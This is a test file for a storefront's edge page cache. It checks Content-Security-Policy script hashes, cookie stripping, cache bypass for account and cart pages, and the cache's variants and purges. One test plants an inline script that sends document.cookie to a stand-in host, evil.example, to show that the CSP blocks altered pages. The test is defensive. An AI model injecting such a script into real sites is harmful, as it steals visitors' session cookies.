import { env } from 'cloudflare:test'
import { Hono } from 'hono'
import { beforeEach, describe, expect, it } from 'vitest'
import { consentValue } from '../contract/consent'
import { COOKIE } from '../contract/cookies'
import type { ServerRequestContext } from '../src/lib/request-context'
import {
  FRESH_SECONDS,
  forgetCacheGeneration,
  forgetPagesInMemory,
  GENERATION_KEY,
  openPageCache,
  pageCacheKey,
  STALE_SECONDS,
  type PageVariant,
} from './page-cache'
import { TEST_ORIGIN, wireStorefront } from './test/storefront'

const kv = (env as unknown as { CACHE: KVNamespace }).CACHE

const SESSION = `${COOKIE.auth}=secret.jwt.token; ${COOKIE.customer}=%2Fapi%2Fv2%2Fshop%2Fcustomers%2F7; ${COOKIE.cartToken}=cart-of-jana`
const GUEST: PageVariant = { ageVerified: false, consentChosen: false, crawler: false }
const ADULT: PageVariant = { ageVerified: true, consentChosen: false, crawler: false }
const CONSENTED: PageVariant = { ageVerified: true, consentChosen: true, crawler: false }

/**
 * A storefront whose stand-in renderer writes what it was given into the page (its URL, the cookies it saw,
 * a render counter) and the nonce where Start puts it; the clock is the test's.
 */
function shop(options: { buildId?: string; setCookie?: boolean; status?: number } = {}) {
  const buildId = options.buildId ?? crypto.randomUUID()
  const clock = { now: Date.now() }
  const rendered: { request: Request; context: ServerRequestContext }[] = []
  const apiCalls: { path: string; auth: string | null; cacheControl: string | null }[] = []
  let version = 'v1'
  const api = new Hono().all('*', (c) => {
    apiCalls.push({
      path: new URL(c.req.url).pathname,
      auth: c.req.header('authorization') ?? null,
      cacheControl: c.req.header('cache-control') ?? null,
    })
    return c.json({ 'hydra:member': [], 'hydra:totalItems': 0 })
  })
  const request = wireStorefront({
    api,
    pageCache: { buildId, now: () => clock.now },
    render: async (renderRequest, context) => {
      rendered.push({ request: renderRequest, context })
      await context.fetchApi('/api/v2/shop/menus/header', {})
      // as Start writes a page: the nonce meta, inline scripts in the head and streamed into the body, the
      // entry script, a data block (not run, so not in the CSP)
      const n = context.nonce
      const body =
        `<!doctype html><html><head><meta property="csp-nonce" content="${n}"/><script nonce="${n}">1</script>` +
        `<script type="module" nonce="${n}" src="/assets/main.js"></script><script type="application/ld+json">{"name":"Rum"}</script></head>` +
        `<body><p>render ${rendered.length} ${version} url=${context.url} cookies=[${context.cookieHeader}] shared=${context.shared}</p>` +
        `<script class="$tsr" nonce="${n}">self.$R=self.$R||[];$_TSR.e("Žluťoučký kůň")</script>` +
        `<script type="module" nonce="${n}">import("/assets/main.js")\r\n</script></body></html>`
      const headers = new Headers({ 'content-type': 'text/html; charset=utf-8', 'server-timing': 'render;dur=12' })
      if (options.setCookie) headers.append('set-cookie', 'flash=1; Path=/')
      return new Response(body, { status: options.status ?? 200, headers })
    },
  })
  return {
    buildId,
    clock,
    rendered,
    apiCalls,
    request,
    setVersion: (value: string) => void (version = value),
    /** Waits until the copy of `path` is in the cache (it is written while the first visitor reads it). */
    async stored(path: string, variant = GUEST, generation = '0') {
      const cache = await openPageCache()
      const key = pageCacheKey({ url: TEST_ORIGIN + path, variant }, buildId, generation)
      await expect.poll(async () => (await cache.match(key))?.text(), { timeout: 3000 }).toBeTruthy()
    },
  }
}

const nonceOf = (response: Response) =>
  /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1]

/** The `'sha256-…'` sources of a CSP's script-src, sorted. */
const hashesOf = (response: Response) =>
  [
    ...(/script-src ([^;]*)/.exec(response.headers.get('content-security-policy') ?? '')?.[1] ?? '').matchAll(
      /'(sha256-[^']+)'/g,
    ),
  ]
    .map((m) => m[1]!)
    .sort()

/** What a browser hashes of each inline script it would run (its text, line breaks as the parser gives them). */
async function inlineScriptHashes(html: string): Promise<string[]> {
  const hashes = new Set<string>()
  for (const [, attrs, text] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
    if (/\ssrc=/.test(attrs!) || /type="application\/ld\+json"/.test(attrs!)) continue
    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text!.replace(/\r\n?/g, '\n')))
    hashes.add(`sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}`)
  }
  return [...hashes].sort()
}

beforeEach(async () => {
  await kv.delete(GENERATION_KEY)
  forgetCacheGeneration()
})

describe('the edge cache of shared pages', () => {
  it("renders once and serves the next requests the stored bytes as they are, under a CSP of their inline scripts' hashes", async () => {
    const s = shop()
    const path = '/kategorie/rum?brand=a,b&page=2'
    const first = await s.request(path)
    expect(first.headers.get('x-cache')).toBe('miss')
    // the render the first visitor streams carries its answer's nonce
    const firstBody = await first.text()
    expect(firstBody).toContain(`<script nonce="${nonceOf(first)}">1</script>`)
    await s.stored(path)
    const stored = await (
      await openPageCache()
    )
      .match(pageCacheKey({ url: TEST_ORIGIN + path, variant: GUEST }, s.buildId, '0'))
      .then((response) => response!.arrayBuffer())
    const second = await s.request(path)
    expect(second.headers.get('x-cache')).toBe('hit')
    expect(second.status).toBe(200)
    // byte for byte the stored page: no nonce written in, the render's own taken out
    const body = new Uint8Array(await second.arrayBuffer())
    expect(body).toEqual(new Uint8Array(stored))
    const html = new TextDecoder().decode(body)
    // each answer from memory gets the whole page (the stored bytes are not handed over to one answer)
    expect(new Uint8Array(await (await s.request(path)).arrayBuffer())).toEqual(body)
    expect(s.rendered).toHaveLength(1)
    expect(html).toContain('render 1 ')
    expect(html).not.toContain('nonce')
    expect(html).not.toContain(nonceOf(first))
    // its CSP: the hashes of exactly the page's inline scripts where a rendered answer has its nonce, no nonce,
    // and otherwise the same policy
    const csp = second.headers.get('content-security-policy')!
    expect(csp).not.toContain('nonce')
    expect(hashesOf(second)).toEqual(await inlineScriptHashes(html))
    expect(hashesOf(second)).toHaveLength(3)
    const hashes = /script-src 'self' ((?:'sha256-[^']+' ?)+)/.exec(csp)![1]!.trim()
    expect(csp).toBe(first.headers.get('content-security-policy')!.replace(`'nonce-${nonceOf(first)}'`, hashes))
    // the render's Server-Timing (its time and API calls, decision 058) was about that render, not this answer
    expect(first.headers.get('server-timing')).toMatch(/^render;dur=12, api;dur=[\d.]+;desc="calls=1 depth=1"/)
    // a hit renders nothing and calls nothing: it says so, never the stored render's figures
    expect(second.headers.get('server-timing')).toBe(
      'api;dur=0.0;desc="calls=0 depth=0", api-d1;desc="trips=0 depth=0"',
    )
    // not kept by the browser or any cache downstream: only the worker tells the variants apart
    expect(second.headers.get('cache-control')).toBe('private, no-cache')
    // another isolate (nothing in its memory) reads the Cache API's copy: the same bytes and the same CSP
    forgetPagesInMemory()
    const third = await s.request(path)
    expect(third.headers.get('x-cache')).toBe('hit')
    expect(new Uint8Array(await third.arrayBuffer())).toEqual(body)
    expect(third.headers.get('content-security-policy')).toBe(csp)
    expect(s.rendered).toHaveLength(1)
    // HEAD gets the same CSP
    expect((await s.request(path, { method: 'HEAD' })).headers.get('content-security-policy')).toBe(csp)
    // another filter is another page
    expect((await s.request('/kategorie/rum?brand=a&page=2')).headers.get('x-cache')).toBe('miss')
  })

  it('does not allow an inline script altered in storage: the CSP keeps the hashes of the page as rendered', async () => {
    const s = shop()
    const path = '/kategorie/gin'
    await (await s.request(path)).text()
    await s.stored(path)
    const cache = await openPageCache()
    const key = pageCacheKey({ url: TEST_ORIGIN + path, variant: GUEST }, s.buildId, '0')
    const stored = (await cache.match(key))!
    const rendered = await stored.clone().text()
    const altered = rendered.replace('<script>1</script>', '<script>fetch("//evil.example/"+document.cookie)</script>')
    expect(altered).not.toBe(rendered)
    await cache.put(key, new Response(altered, stored))
    forgetPagesInMemory()
    const hit = await s.request(path)
    expect(hit.headers.get('x-cache')).toBe('hit')
    const html = await hit.text()
    expect(html).toContain('evil.example')
    const allowed = hashesOf(hit)
    expect(allowed).toEqual(await inlineScriptHashes(rendered))
    // the altered script's hash is not among them, so the browser does not run it
    const [evil] = (await inlineScriptHashes(altered)).filter((hash) => !allowed.includes(hash))
    expect(evil).toBeTruthy()
    expect(hit.headers.get('content-security-policy')).not.toContain(evil)
  })

  it('renders a visitor with a session and a cart as a guest: the render never sees their cookies or bearer', async () => {
    const s = shop()
    const first = await s.request('/produkt/rum-a', { headers: { cookie: SESSION } })
    expect(first.headers.get('x-cache')).toBe('miss')
    const html = await first.text()
    expect(html).toContain('cookies=[] shared=true')
    expect(html).not.toMatch(/secret|cart-of-jana|customers/)
    const { request, context } = s.rendered[0]!
    expect(request.headers.get('cookie')).toBeNull()
    expect(context.cookieHeader).toBe('')
    expect(context.shared).toBe(true)
    expect(s.apiCalls.every((call) => call.auth === null)).toBe(true)
    expect(first.headers.getSetCookie()).toEqual([])
    // a guest without cookies and another customer get that same page from the cache
    await s.stored('/produkt/rum-a')
    for (const cookie of ['', `${COOKIE.auth}=other.jwt; ${COOKIE.customer}=%2Fapi%2Fv2%2Fshop%2Fcustomers%2F9`]) {
      const again = await s.request('/produkt/rum-a', { headers: { cookie } })
      expect(again.headers.get('x-cache')).toBe('hit')
      expect(await again.text()).toContain('render 1 ')
    }
    expect(s.rendered).toHaveLength(1)
  })

  it('renders the product link of a watchdog alert anew, asking the API for no cached answers', async () => {
    const s = shop()
    await s.request('/produkt/rum-a')
    await s.stored('/produkt/rum-a')
    expect(s.apiCalls.at(-1)?.cacheControl).toBeNull()
    const alert = await s.request('/produkt/rum-a?upozorneni=Ab12Cd34Ef56')
    expect(alert.headers.get('x-cache')).toBe('miss')
    expect(await alert.text()).toContain('render 2 ')
    expect(s.apiCalls.at(-1)?.cacheControl).toBe('no-cache')
    // elsewhere the parameter is an ordinary query: the render uses the API cache as any other
    await s.request('/kategorie/rum?upozorneni=Ab12Cd34Ef56')
    expect(s.apiCalls.at(-1)?.cacheControl).toBeNull()
  })

  it('never caches the personal pages, the login hand-overs, a password reset link or a review link, and renders them for the visitor', async () => {
    const s = shop()
    for (const path of [
      '/account',
      '/account/settings',
      '/cart',
      '/cart/summary',
      '/cart/thank-you/tok',
      '/order/tok',
      '/oauth/success',
      '/logout',
      '/?passwordRecovery=reset-token-0123456789',
      '/hodnoceni?reviewToken=review-link-token-0123456789',
    ]) {
      for (let i = 0; i < 2; i++) {
        const response = await s.request(path, { headers: { cookie: SESSION } })
        expect(response.headers.get('x-cache'), path).toBe('bypass')
        expect(await response.text(), path).toContain('shared=false')
      }
    }
    expect(s.rendered).toHaveLength(20)
    expect(s.rendered.every(({ context }) => context.cookieHeader === SESSION)).toBe(true)
    expect((await s.request('/account')).headers.get('cache-control')).toBe('no-store')
  })

  it('shares only the canonical spelling of a path: any other case, encoding or slash is rendered for the visitor', async () => {
    const s = shop()
    // the router renders each of these as the order page or a public page; none may be shared with the next visitor
    for (const path of [
      '/ORDER/tok',
      '/ord%65r/tok',
      '//order/tok',
      '/Kategorie/rum',
      '/kategorie/rum/',
      '/kategorie//rum',
      '/produkt/rum%2Da',
    ]) {
      for (let i = 0; i < 2; i++) {
        const response = await s.request(TEST_ORIGIN + path, { headers: { cookie: SESSION } })
        expect(response.headers.get('x-cache'), path).toBe('bypass')
        expect(await response.text(), path).toContain('shared=false')
      }
    }
    expect(s.rendered.every(({ context }) => context.cookieHeader === SESSION)).toBe(true)
    expect((await s.request('/kategorie/rum')).headers.get('x-cache')).toBe('miss')
  })

  it('keeps two variants per URL, chosen by the age cookie, and one for crawlers', async () => {
    const s = shop()
    const gate = await s.request('/', { headers: { cookie: SESSION } })
    expect(await gate.text()).toContain('cookies=[]')
    const adult = await s.request('/', { headers: { cookie: `${SESSION}; ${COOKIE.ageVerified}=1` } })
    expect(adult.headers.get('x-cache')).toBe('miss')
    expect(await adult.text()).toContain(`cookies=[${COOKIE.ageVerified}=1]`)
    await s.stored('/', GUEST)
    await s.stored('/', ADULT)
    const gateAgain = await s.request('/')
    expect(gateAgain.headers.get('x-cache')).toBe('hit')
    expect(await gateAgain.text()).toContain('cookies=[]')
    const adultAgain = await s.request('/', { headers: { cookie: `${COOKIE.ageVerified}=1` } })
    expect(adultAgain.headers.get('x-cache')).toBe('hit')
    expect(await adultAgain.text()).toContain(`cookies=[${COOKIE.ageVerified}=1]`)
    // a crawler gets its own render (Start sends crawlers the whole document at once)
    const crawler = await s.request('/', { headers: { 'user-agent': 'Mozilla/5.0 (compatible; SeznamBot/4.0)' } })
    expect(crawler.headers.get('x-cache')).toBe('miss')
    expect(s.rendered.at(-1)?.request.headers.get('user-agent')).toContain('Googlebot')
    expect(s.rendered).toHaveLength(3)
  })

  it('keeps a variant without the consent banner for visitors who chose, without their choice in it', async () => {
    const s = shop()
    const mine = `${COOKIE.ageVerified}=1; ${COOKIE.consent}=${encodeURIComponent(consentValue({ analytics: true, marketing: false }, new Date('2026-11-20')))}`
    const first = await s.request('/', { headers: { cookie: mine } })
    expect(first.headers.get('x-cache')).toBe('miss')
    const html = await first.text()
    expect(html).toContain(`${COOKIE.consent}=v%3D1%26analytics%3D0%26marketing%3D0%26date%3D1970-01-01]`)
    expect(html).not.toContain('2026-11-20')
    await s.stored('/', CONSENTED)
    // another visitor who chose differently gets the same page; an outdated choice counts as none
    const other = await s.request('/', {
      headers: {
        cookie: `${COOKIE.ageVerified}=1; ${COOKIE.consent}=${encodeURIComponent(consentValue({ analytics: false, marketing: true }))}`,
      },
    })
    expect(other.headers.get('x-cache')).toBe('hit')
    const outdated = await s.request('/', {
      headers: { cookie: `${COOKIE.ageVerified}=1; ${COOKIE.consent}=v%3D0%26analytics%3D1` },
    })
    expect(outdated.headers.get('x-cache')).toBe('miss')
    expect(await outdated.text()).toContain(`cookies=[${COOKIE.ageVerified}=1]`)
  })

  it('does not store an answer that sets a cookie, nor a 404', async () => {
    for (const options of [{ setCookie: true }, { status: 404 }]) {
      const s = shop(options)
      await (await s.request('/kategorie/gin')).text()
      await new Promise((resolve) => setTimeout(resolve, 50))
      const again = await s.request('/kategorie/gin')
      expect(again.headers.get('x-cache')).toBe('miss')
      await again.text()
      expect(s.rendered).toHaveLength(2)
    }
  })

  it('serves a stale page at once and renders it again in the background; an expired one is a miss', async () => {
    const s = shop()
    await (await s.request('/search?q=rum')).text()
    await s.stored('/search?q=rum')
    s.setVersion('v2')
    s.clock.now += (FRESH_SECONDS + 1) * 1000
    const stale = await s.request('/search?q=rum')
    expect(stale.headers.get('x-cache')).toBe('stale')
    expect(await stale.text()).toContain('render 1 v1')
    // the background render replaces the copy
    await expect
      .poll(
        async () => {
          const response = await s.request('/search?q=rum')
          return `${response.headers.get('x-cache')} ${await response.text()}`
        },
        { timeout: 3000 },
      )
      .toMatch(/^hit .* v2 /)
    // one background render, or two when a stale request came before the new copy was readable
    expect(s.rendered.length).toBeGreaterThanOrEqual(2)
    expect(s.rendered.length).toBeLessThanOrEqual(3)
    const renders = s.rendered.length
    s.clock.now += (FRESH_SECONDS + STALE_SECONDS) * 1000
    const expired = await s.request('/search?q=rum')
    expect(expired.headers.get('x-cache')).toBe('miss')
    expect(await expired.text()).toContain(`render ${renders + 1} v2`)
  })

  it('misses after a new build, and after the cache generation in KV is bumped (the purge)', async () => {
    const buildId = crypto.randomUUID()
    const before = shop({ buildId })
    await (await before.request('/pruvodce-darky')).text()
    await before.stored('/pruvodce-darky')
    expect((await shop({ buildId }).request('/pruvodce-darky')).headers.get('x-cache')).toBe('hit')
    const deployed = shop()
    expect((await deployed.request('/pruvodce-darky')).headers.get('x-cache')).toBe('miss')

    await kv.put(GENERATION_KEY, '2')
    const purged = shop({ buildId })
    // an isolate trusts the generation it read for 10 s
    purged.clock.now += 11_000
    const response = await purged.request('/pruvodce-darky')
    expect(response.headers.get('x-cache')).toBe('miss')
    await response.text()
    await purged.stored('/pruvodce-darky', GUEST, '2')
    expect((await purged.request('/pruvodce-darky')).headers.get('x-cache')).toBe('hit')
  })

  it('keys and renders the page without tracking parameters, keeping the query otherwise as sent', async () => {
    const s = shop()
    const first = await s.request('/kategorie/whisky?utm_source=newsletter&brand=a,b&fbclid=xyz&gclid=1')
    expect(await first.text()).toContain(`url=${TEST_ORIGIN}/kategorie/whisky?brand=a,b `)
    await s.stored('/kategorie/whisky?brand=a,b')
    expect((await s.request('/kategorie/whisky?brand=a,b&utm_medium=email')).headers.get('x-cache')).toBe('hit')
    expect((await s.request('/kategorie/whisky?brand=a,b')).headers.get('x-cache')).toBe('hit')
  })

  it("answers HEAD from the cache without a body, and does not cache the development tools' hosts", async () => {
    const s = shop()
    await (await s.request('/kontakt')).text()
    await s.stored('/kontakt')
    const head = await s.request('/kontakt', { method: 'HEAD' })
    expect(head.headers.get('x-cache')).toBe('hit')
    expect(await head.text()).toBe('')
    const staging = await s.request('https://preview.staging.example.cz/kontakt')
    expect(staging.headers.get('x-cache')).toBe('bypass')
  })
})
